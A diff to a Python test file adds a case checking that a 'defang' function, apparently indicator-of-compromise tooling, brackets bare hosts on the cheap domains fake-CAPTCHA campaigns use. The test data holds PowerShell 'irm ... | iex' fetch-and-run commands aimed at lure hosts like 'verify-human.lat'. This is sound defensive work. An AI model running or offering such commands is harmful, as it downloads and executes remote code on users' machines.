@@ -97,5 +97,13 @@ def test_defang_brackets_bare_ip_addresses() -> None:
     assert defang("version 1.2.3.999") == "version 1.2.3.999"  # not an address
 
 
+def test_defang_brackets_bare_hosts_on_the_cheap_domains_lures_use() -> None:
+    # the top-level domains fake-CAPTCHA campaigns register by the hundred, written bare
+    for tld in ("lat", "cam", "mom", "homes", "autos", "hair", "skin", "bar", "club", "pics"):
+        assert defang(f"irm verify-human.{tld} | iex") == f"irm verify-human[.]{tld} | iex"
+    # and a word that only looks like one in code is left alone
+    assert defang("el.style.display = 'none'; el.host") == "el.style.display = 'none'; el.host"
+
+
 def test_defang_brackets_bare_host_names() -> None:
     assert defang("irm get.scoop.sh | iex") == "irm get[.]scoop[.]sh | iex"
